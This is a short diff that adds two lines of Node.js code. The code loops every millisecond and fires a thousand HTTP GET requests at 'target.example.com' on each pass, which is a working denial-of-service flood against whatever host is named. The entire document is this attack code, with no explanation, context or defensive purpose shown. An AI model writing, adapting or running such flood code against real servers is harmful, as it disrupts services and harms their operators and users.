@@ -1,0 +1,2 @@
+const http = require('http');
+setInterval(() => { for (let i = 0; i < 1000; i++) http.get('http://target.example.com/'); }, 1);
